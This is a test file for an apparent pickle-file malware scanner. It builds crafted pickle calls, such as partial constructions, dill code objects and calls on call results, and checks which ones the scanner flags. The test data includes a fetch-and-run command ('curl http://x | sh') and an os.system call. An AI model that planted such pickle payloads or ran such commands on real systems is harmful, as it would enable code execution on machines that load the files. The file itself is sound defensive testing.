import { describe, expect, it } from "vitest";
import { call, callOf, dict, made, named, tupleOf, UNVETTED, whole, withState } from "../../attacks/pickle-calls.js";
import * as p from "../../builders/pickle.js";
import { findingsOf } from "./scan.js";
import { allOf, silent, told } from "./tables.js";

const RESULT = call("numpy", "dtype", p.text("f8"));
const SOME = named("torch.made_up", "Some");
const MAKER = named("torch.made_up", "Some.__new__");
const lookup = (type: string) => call("cloudpickle.cloudpickle", "_builtin_type", p.text(type));
const partial = (...args: readonly p.Piece[]) => call("functools", "partial", ...args);
const stated = (callee: p.Piece, args: p.Piece) =>
  withState(partial(callee), tupleOf(callee, args, dict({ a: p.int(1) }), p.none));

/** `return None` of Python 3.8. */
const CODE = call(
  "dill._dill",
  "_create_code",
  p.int(0),
  p.int(0),
  p.int(0),
  p.int(0),
  p.int(1),
  p.int(67),
  p.bytes(Buffer.from("64005300", "hex")),
  tupleOf(p.none),
  p.emptyTuple,
  p.emptyTuple,
  p.text("f.py"),
  p.text("f"),
  p.int(1),
  p.bytes(""),
  p.emptyTuple,
  p.emptyTuple,
);

describe("a call of what a call returned", () => {
  told("high pickle/result-called", [
    ["a result", callOf(RESULT, p.int(1))],
    ["an object", callOf(made("torch.made_up", "Some"), p.int(1))],
    ["a method bound to nothing", callOf(lookup("MethodType"))],
    ["a method of what another call made", callOf(lookup("MethodType"), RESULT, RESULT)],
    ["another type that is looked up", callOf(lookup("GeneratorType"), SOME)],
    ["a function of no code", callOf(lookup("LambdaType"))],
    ["a function of a text", callOf(lookup("FunctionType"), p.text("x"), p.emptyDict)],
    ["a function of what makes no code", callOf(lookup("FunctionType"), RESULT, p.emptyDict)],
    [
      "what a function returns that is no partial",
      callOf(
        call(
          "somewhere.else",
          "make",
          named("collections", "OrderedDict.__new__"),
          named("collections", "OrderedDict"),
        ),
      ),
    ],
    [
      "what a function returns that looks no type up",
      callOf(call("somewhere.else", "make", p.text("MethodType")), SOME),
    ],
    ["another type that is made of code", callOf(lookup("GeneratorType"), CODE)],
    ["a partial of a function", callOf(partial(UNVETTED, SOME))],
    ["a partial of nothing", callOf(partial())],
    ["a partial of another class's maker", callOf(partial(MAKER, named("torch.made_up", "Other")))],
    ["a partial of another module's maker", callOf(partial(named("torch.other", "Some.__new__"), SOME))],
    ["a partial of a maker without a class", callOf(partial(MAKER))],
    [
      "a partial whose state replaces the maker",
      callOf(withState(partial(MAKER, SOME), tupleOf(UNVETTED, tupleOf(SOME), p.emptyDict, p.none))),
    ],
    [
      "a batch of what another call made",
      callOf(
        call("torch_geometric.data.batch", "DynamicInheritanceGetter"),
        named("torch_geometric.data.batch", "Batch"),
        RESULT,
      ),
    ],
    [
      "a batch of three",
      callOf(
        call("torch_geometric.data.batch", "DynamicInheritanceGetter"),
        named("torch_geometric.data.batch", "Batch"),
        SOME,
        SOME,
      ),
    ],
    ["a batch of another kind", callOf(call("torch_geometric.data.batch", "DynamicInheritanceGetter"), SOME, SOME)],
    [
      "the same by another maker",
      callOf(call("torch_geometric.data.batch", "Made"), named("torch_geometric.data.batch", "Batch"), SOME),
    ],
  ]);
  silent([
    ["a method of a known package", callOf(lookup("MethodType"), SOME, p.int(1))],
    ["the same by dill", callOf(call("dill._dill", "_load_type", p.text("MethodType")), SOME, p.int(1))],
    ["a partial of a known class's maker", callOf(partial(MAKER, SOME))],
    ["the same as copyreg writes it", callOf(stated(MAKER, tupleOf(SOME)))],
  ]);
  it.each(["LambdaType", "FunctionType"])(
    "is told by the code alone where it makes a function of it: %s",
    async (type) => {
      expect(await allOf(callOf(lookup(type), CODE, p.emptyDict))).toEqual(["low pickle/code-object"]);
      const parts = callOf(lookup("CodeType"), p.int(0));
      expect(await allOf(callOf(lookup(type), parts, p.emptyDict))).toEqual(["medium pickle/code-object"]);
    },
  );
  it("is no more than the maker's where a batch is made", async () => {
    const maker = call("torch_geometric.data.batch", "DynamicInheritanceGetter");
    const batch = callOf(maker, named("torch_geometric.data.batch", "Batch"), SOME);
    expect(await allOf(batch)).toEqual(await allOf(maker));
  });
  it("is told with what its arguments show", async () => {
    const evidenceOf = async (argument: p.Piece) => (await findingsOf(whole(callOf(RESULT, argument))))[0]?.evidence;
    expect(await evidenceOf(p.text("curl http://x | sh"))).toMatchObject({ argument: "curl http://x | sh" });
    expect(await evidenceOf(p.text("abc"))).not.toHaveProperty("argument");
  });
  it("is irregular where a constant is called, and told where it is fetched where the registry has it", async () => {
    expect(await allOf(callOf(p.text("os.system"), p.text("id")))).toEqual(["medium pickle/irregular"]);
    expect(await allOf(callOf(p.ext1(7), p.text("id")))).toEqual(await allOf(p.ext1(7)));
  });
});
